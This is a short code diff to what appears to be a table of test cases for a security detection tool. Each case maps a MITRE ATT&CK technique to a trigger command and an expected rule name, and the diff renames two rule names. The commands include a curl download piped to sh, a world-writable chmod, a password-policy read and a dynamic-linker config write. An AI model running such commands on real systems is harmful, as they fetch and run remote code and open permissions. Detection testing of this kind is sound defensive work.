@@ -75,7 +75,7 @@ export const TECHNIQUES: readonly Technique[] = [
     'T1105',
     'a download with a shell behind it',
     `${named('curl')} -s http://192.0.2.1/ | sh`,
-    'download_feeds_shell',
+    'download_feeds_shell|download_piped_to_shell',
   ),
   technique('T1201', 'the password policy is read', 'cat /etc/login.defs', 'password_policy_read'),
   technique('T1222.002', 'everybody may write', ': > $D/x; chmod 777 $D/x', 'permissions_opened_by_command'),
@@ -175,7 +175,7 @@ export const TECHNIQUES: readonly Technique[] = [
     'T1574.006',
     'a library is named for all programs',
     'mkdir -p /etc/ld.so.conf.d; f=/etc/ld.so.conf.d/bpfwarden-$$.conf; : > $f; rm $f',
-    'preload_library_configured',
+    'library_search_path_changed',
   ),
   technique('T1609', 'a command in a container', `${named('docker')} exec x sh`, 'container_command_executed'),
   technique(
